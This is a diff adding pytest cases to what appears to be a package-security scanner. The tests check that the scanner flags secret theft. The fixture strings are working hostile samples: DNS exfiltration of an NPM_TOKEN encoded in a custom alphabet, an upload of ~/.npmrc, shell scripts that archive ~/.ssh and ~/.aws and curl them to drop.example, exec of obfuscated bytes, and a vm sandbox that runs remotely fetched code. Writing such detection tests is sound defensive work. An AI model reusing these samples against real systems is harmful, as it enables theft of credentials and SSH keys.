@@ -133,3 +133,131 @@ require('https').get('https://dl.example/n', (answer) => {
     found = package({"lib/a.js": code})
     assert "code.flow network > execution @ lib/a.js:7 (import)" in found
     assert "code.eval import /tmp/n.node @ lib/a.js:7 (import)" in found
+
+
+ALPHABETS = {
+    "bits of numbers": """const dns = require('dns').promises, A = 'abcdefghijklmnopqrstuvwxyz234567'
+function spell(bytes) {
+  let bits = 0, held = 0, out = ''
+  for (const b of bytes) {
+    held = (held << 8) | b; bits += 8
+    while (bits >= 5) { out += A[(held >>> (bits - 5)) & 31]; bits -= 5 }
+  }
+  return out
+}
+for (const name of ['NPM_TOKEN']) {
+  const value = process.env[name]
+  if (value) dns.resolve4(`${spell(Buffer.from(value).map((b, i) => b ^ i))}.t.relay.example`)
+}""",
+    "bits as texts": """const A = 'abcdefghijklmnopqrstuvwxyz012345'
+let bits = ''
+for (const c of Buffer.from(process.env.NPM_TOKEN)) bits += c.toString(2).padStart(8, '0')
+const label = bits.match(/.{1,5}/g).map((b) => A[parseInt(b, 2)]).join('')
+require('dns').resolve(label + '.t.relay.example', 'TXT', () => {})""",
+}
+
+
+@pytest.mark.parametrize("code", ALPHABETS.values(), ids=ALPHABETS.keys())
+def test_a_token_that_is_spelt_anew_and_looked_up_is_seen_to_leave_by_name(code: str) -> None:
+    assert any(b.startswith("code.flow env:NPM_TOKEN > dns @ lib/a.js:") and b.endswith("(import)")
+               for b in package({"lib/a.js": code}))  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "require('dns').lookup(process.env.API_TOKEN, () => {})",
+        "require('dns').lookup('registry.npmjs.org', () => fetch('https://registry.npmjs.org', {headers: {a: process.env.NPM_TOKEN}}))",
+        """const names = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine']
+require('dns').lookup(names[process.env.API_TOKEN] + '.example.org', () => {})""",
+    ],
+    ids=["a host that is told", "a host without it", "one of many names"],
+)
+def test_a_name_that_a_secret_is_no_label_of_carries_none(code: str) -> None:
+    assert not any("> dns" in b for b in package({"lib/a.js": code}))
+
+
+def test_what_is_written_to_a_request_is_told_where_it_is_written() -> None:
+    code = """const ask = require('https').request({hostname: 'c.example', path: '/u', method: 'POST'})
+require('fs').readFile(require('path').join(require('os').homedir(), '.npmrc'), 'utf8', (err, text) => {
+  ask.end(Buffer.from(text.split('').reverse().join('')).toString('base64'))
+})"""
+    found = package({"lib/a.js": code})
+    assert "code.flow file:~/.npmrc > network @ lib/a.js:3 (import)" in found
+    assert "net.http POST https://c.example/u @ lib/a.js:3 (import)" in found
+
+
+def test_bytes_are_translated_by_a_table_that_is_computed() -> None:
+    table = bytes((b * 7 + 13) % 256 for b in range(256))
+    hidden = b"import os\nos.system('id')\n".translate(bytes(table.index(at) for at in range(256)))
+    code = f"T = bytes((b * 7 + 13) % 256 for b in range(256))\nexec({hidden!r}.translate(T))\n"
+    assert "process.exec id @ pkg/__init__.py:2 (import)" in package({"pkg/__init__.py": code})
+
+
+PACKERS = {
+    "functions": """#!/bin/sh
+pack() {
+  ( cd "$HOME" && tar -czf "$1" .ssh .aws 2>/dev/null )
+}
+send() {
+  curl -fsS -F "part=@$1" https://drop.example/in || wget -q --post-file="$1" -O /dev/null https://drop.example/in
+}
+out=$(mktemp)
+pack "$out"
+send "$out"
+""",
+    "a loop": """for d in .ssh .kube; do
+  tar -C "$HOME" -cf - "$d" | gzip > "/tmp/w/$d.tgz"
+done
+( for f in /tmp/w/*.tgz; do curl -s --data-binary "@$f" https://drop.example/u; done ) &
+""",
+    "a copy": "cp ~/.ssh/id_rsa /tmp/k\ncurl -T /tmp/k https://drop.example/\n",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("script", PACKERS.values(), ids=PACKERS.keys())
+def test_a_script_that_packs_keys_and_uploads_what_it_packed_sends_them(script: str) -> None:
+    assert any(b.startswith("code.flow file:~/.ssh") and " > network @ bin/setup.sh:" in b
+               for b in package({"bin/setup.sh": script}))  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'tar -czf "$1" src docs\ncurl -T "$1" https://files.example/\n',
+        'tar -C "$HOME" -czf backup.tgz .ssh\ncurl -d \'{"done":true}\' https://hook.example/\n',
+        "cp ~/.ssh/id_rsa.pub /tmp/k\ncurl -T /tmp/k https://keys.example/\n",
+        'for d in .cache .local; do tar -C "$HOME" -cf "$d.tar" "$d"; done\ncurl -T "$d.tar" https://files.example/\n',
+    ],
+    ids=["sources", "a backup beside a notice", "a public key", "other folders"],
+)
+def test_a_script_that_uploads_something_else_sends_no_keys(script: str) -> None:
+    assert not any("> network" in b for b in package({"bin/setup.sh": script}))
+
+
+VM = """const vm = require('vm')
+exports.enabled = function (done) {
+  require('https').get('https://flags.example/r.json', (answer) => {
+    let text = ''
+    answer.on('data', (part) => { text += part })
+    answer.on('end', () => {
+      const script = new vm.Script(JSON.parse(text).rule)
+      const world = vm.createContext(WORLD)
+      done(script.runInContext(world, {timeout: 50}))
+    })
+  })
+}"""
+
+
+@pytest.mark.parametrize(
+    ("world", "evaluated"),
+    [
+        ("Object.create(null), {codeGeneration: {strings: false, wasm: false}}", "apart in vm.Script"),
+        ("{require}, {codeGeneration: {strings: false}}", "vm.Script"),
+        ("Object.create(null)", "vm.Script"),
+        ("globalThis", "vm.Script"),
+    ],
+)
+def test_only_a_script_in_an_empty_world_without_evaluators_is_apart(world: str, evaluated: str) -> None:
+    found = package({"lib/a.js": VM.replace("WORLD", world)})
+    assert [b for b in found if b.startswith("code.eval")] == [f"code.eval {evaluated} @ lib/a.js:7 (call)"]
